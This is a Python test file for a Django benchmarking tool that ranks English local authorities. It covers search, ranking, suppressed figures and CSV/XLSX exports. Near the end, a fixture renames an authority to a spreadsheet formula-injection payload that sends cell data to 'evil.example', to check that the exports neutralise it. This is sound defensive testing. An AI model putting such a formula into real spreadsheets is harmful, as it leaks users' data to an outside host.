"""The benchmarks explorer: search, an indicator's page, its ranking table and exports."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.test import Client

from measures.benchmarking.areas import AreaBook
from measures.benchmarking.models import (
    BenchmarkIndicator,
    BenchmarkValue,
    ComparatorGroup,
    GroupKind,
)
from measures.importers.lait import indicator_slug, read_dictionary
from tests.conftest import AUTHORITIES

LOOKED_AFTER = Path(__file__).parent / "files" / "lait_dictionary_looked_after.csv"

pytestmark = pytest.mark.django_db


def test_search_finds_indicators_by_name_or_topic(client: Client, lac_rate) -> None:
    page = client.get("/benchmarks/", {"q": "looked after"}).content.decode()
    assert "1 indicator matching" in page
    assert f'href="/benchmarks/{lac_rate.slug}/"' in page
    assert "No indicators match" in client.get("/benchmarks/", {"q": "zzz"}).content.decode()


@pytest.fixture
def looked_after_indicators(db) -> None:
    """LAIT's 70 indicators about looked after children, as its dictionary titles them."""
    infos, _, problems = read_dictionary(LOOKED_AFTER)
    assert not problems
    BenchmarkIndicator.objects.bulk_create(
        BenchmarkIndicator(
            source="LAIT", code=code, slug=indicator_slug(code), title=info.title, topic=info.topic
        )
        for code, info in infos.items()
    )


def listed_titles(page: str) -> list[str]:
    """The explorer's results in order, as a reader sees them (abbreviations' mark-up dropped)."""
    items = re.findall(r'<li><a class="govuk-link" href="/benchmarks/[^"]+/">(.*?)</a>', page)
    return [re.sub(r"<[^>]+>", "", item) for item in items]


def test_search_ranks_titles_starting_with_a_word_searched_for_before_other_matches(
    client: Client, looked_after_indicators
) -> None:
    page = client.get("/benchmarks/", {"q": "looked after"}).content.decode()
    titles = listed_titles(page)
    assert "Children looked after rate per 10,000" in titles[:5]
    # The one title that starts with the words comes first.
    assert titles[0] == "Looked after children - S251/Outturn weekly unit costs"
    # A title with the words anywhere comes before one that only its topic matched.
    assert titles.index("Number of Children looked after") < titles.index("% of CLA in foster care")


def test_the_results_spell_out_their_abbreviations(client: Client, looked_after_indicators) -> None:
    page = client.get("/benchmarks/", {"q": "CLA"}).content.decode()
    assert '<abbr title="children looked after">CLA</abbr>' in page
    assert "What the abbreviations in these names stand for" in page
    assert "% of CLA with a SEN Statement/EHCP" in listed_titles(page)
    assert (
        '<dt class="govuk-summary-list__key">SEN</dt>'
        '<dd class="govuk-summary-list__value">Special educational needs</dd>'
    ) in page


def test_indicator_page_ranks_our_authority_among_authorities_only(
    client: Client, lac_rate
) -> None:
    response = client.get(f"/benchmarks/{lac_rate.slug}/")
    comparison = response.context["comparison"]
    assert comparison.period == "2017"
    # Low is good: 45.2, 48.7, 55.0, 60.1, 61.5 ranked among five (Norfolk is suppressed).
    assert comparison.rank_text == "2nd of 5"
    page = response.content.decode()
    assert "2nd of 5" in page
    assert "suppressed (c)" in page
    assert "Northamptonshire (no longer exists)" in page
    sn = comparison.groups[0]
    assert (sn.figure.mean, sn.figure.count, sn.figure.members) == (Decimal("57.6"), 2, 3)


def test_any_authority_can_be_chosen_as_ours(client: Client, lac_rate) -> None:
    response = client.get(f"/benchmarks/{lac_rate.slug}/", {"area": "E10000007"})
    assert response.context["ours"].name == "Derbyshire"
    assert response.context["comparison"].rank_text == "3rd of 5"


def test_csv_has_one_row_per_authority_and_no_england_or_regions(client: Client, lac_rate) -> None:
    response = client.get(f"/benchmarks/{lac_rate.slug}/authorities.csv", {"period": "2017"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0]) == [
        "authority_code",
        "authority",
        "region",
        "value",
        "status",
        "rank",
        "quartile",
    ]
    by_name = {row["authority"]: row for row in rows}
    assert set(by_name) == {a[2] for a in AUTHORITIES}
    assert by_name["Lincolnshire"] == {
        "authority_code": "E10000019",
        "authority": "Lincolnshire",
        "region": "East Midlands",
        "value": "48.7",
        "status": "",
        "rank": "2",
        "quartile": "A",
    }
    assert by_name["Norfolk"]["value"] == "" and by_name["Norfolk"]["status"] == "c"
    assert by_name["Northamptonshire"]["authority_code"] == "928"


def test_the_table_sorts_by_rank_with_missing_figures_last(client: Client, lac_rate) -> None:
    page = client.get(f"/benchmarks/{lac_rate.slug}/", {"sort": "rank"}).content.decode()
    table = page.split("authority-table")[1]
    names = ["North Northamptonshire", "Lincolnshire", "Derbyshire", "Nottinghamshire", "Norfolk"]
    positions = [table.index(f">{name}") for name in names]
    assert positions == sorted(positions)


def test_an_earlier_period_can_be_chosen(client: Client, lac_rate) -> None:
    response = client.get(f"/benchmarks/{lac_rate.slug}/", {"period": "2016"})
    assert response.context["comparison"].ours.value == Decimal("46.0")
    assert response.context["comparison"].periods == ["2016", "2017"]


def test_a_measure_page_shows_its_linked_indicator(
    client: Client, lac_rate, make_measure, make_target
) -> None:
    from measures.benchmarking.models import MeasureBenchmark

    measure = make_measure("LAC-RATE")
    make_target(measure)
    MeasureBenchmark.objects.create(measure=measure, indicator=lac_rate, note="Both are rates.")
    page = client.get("/measures/LAC-RATE/").content.decode()
    assert "No benchmark data yet." not in page
    assert "Children looked after rate per 10,000, 2017" in page
    assert "ranked 2nd of 5 (1st is best)" in page and "quartile band A" in page
    assert "Both are rates." in page
    assert f'id="{lac_rate.slug}"' in page  # the chart's data
    assert "Below England (62)." in page


def test_indicator_page_queries_do_not_grow_with_authorities_or_years(
    client: Client, lac_rate
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            client.get(f"/benchmarks/{lac_rate.slug}/")
        return len(queries)

    before = count()
    book = AreaBook()
    for number in range(100, 160):
        area = book.authority(name=f"Authority {number}", old=str(number))
        for year in range(2010, 2018):
            BenchmarkValue.objects.create(
                indicator=lac_rate,
                period=str(year),
                period_key=year * 10 + 1,
                area=area,
                value=Decimal(number % 50),
                raw=str(number % 50),
            )
    assert count() == before


def test_a_target_following_england_resolves_once_englands_figure_exists(
    lac_rate, make_measure
) -> None:
    from measures.benchmarking.models import MeasureBenchmark
    from measures.following import resolve_following_targets
    from measures.models import Target

    measure = make_measure("LAC-RATE")
    MeasureBenchmark.objects.create(measure=measure, indicator=lac_rate)
    target = Target.objects.create(
        measure=measure,
        year=2016,
        follows="england",
        follows_margin_above=Decimal(1),
        follows_margin_below=Decimal(2),
    )
    unresolvable = Target.objects.create(measure=measure, year=2020, follows="england")
    assert resolve_following_targets() == 1
    target.refresh_from_db()
    assert (target.value, target.band_low, target.band_high) == (62, 60, 63)
    assert target.derivation == "In line with England (62 per 10,000), tolerance +1 / −2."
    unresolvable.refresh_from_db()
    assert unresolvable.value is None
    assert "waiting for the comparator's figure" in unresolvable.derivation


def test_a_measure_page_shows_the_papers_group_figures_as_printed(
    client: Client, make_measure, make_target
) -> None:
    from measures.benchmarking.models import GroupValue

    measure = make_measure("FTE-YJ", unit="count", polarity="lower", decimal_places=0)
    make_target(measure, value=203, band_low=None, band_high=None)
    yot = ComparatorGroup.objects.create(
        kind=GroupKind.YOT_FAMILY, name="Lincolnshire YOT comparator family", slug="yot"
    )
    GroupValue.objects.create(
        group=yot,
        measure=measure,
        period="Apr 14 - Mar 15",
        value=Decimal("384"),
        label="rate per 100,000 aged 10-17",
    )
    page = client.get("/measures/FTE-YJ/").content.decode()
    assert "As the council's papers printed them" in page
    assert "Lincolnshire YOT comparator family" in page and "Apr 14 - Mar 15" in page
    assert ">384<" in page
    assert "No benchmark data yet." not in page


def test_a_suppressed_neighbour_is_explained_not_drawn_as_nothing(client: Client, lac_rate) -> None:
    response = client.get(f"/benchmarks/{lac_rate.slug}/")
    norfolk = next(bar for bar in response.context["bars"] if bar.label == "Norfolk")
    assert norfolk.value is None and norfolk.missing == "suppressed"
    assert "No figure: suppressed" in response.content.decode()


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def hostile_area(lac_rate):
    """An authority whose name a spreadsheet would run, and a negative figure."""
    value = BenchmarkValue.objects.get(indicator=lac_rate, area__name="Derbyshire", period="2017")
    value.area.name = HYPERLINK
    value.area.save()
    BenchmarkValue.objects.filter(pk=value.pk).update(value=Decimal("-0.5"))
    return lac_rate


def test_the_csv_export_quotes_cells_that_could_run_as_formulas(
    client: Client, hostile_area
) -> None:
    response = client.get(f"/benchmarks/{hostile_area.slug}/authorities.csv", {"period": "2017"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    row = next(row for row in rows if row["authority_code"] == "E10000007")
    assert row["authority"] == "'" + HYPERLINK
    assert row["value"] == "-0.5"


def test_the_xlsx_export_has_no_formula_and_keeps_numbers(client: Client, hostile_area) -> None:
    response = client.get(f"/benchmarks/{hostile_area.slug}/authorities.xlsx", {"period": "2017"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "E10000007")
    assert (row[1].value, row[1].data_type) == (HYPERLINK, "s")
    assert (row[3].value, row[3].data_type) == (-0.5, "n")
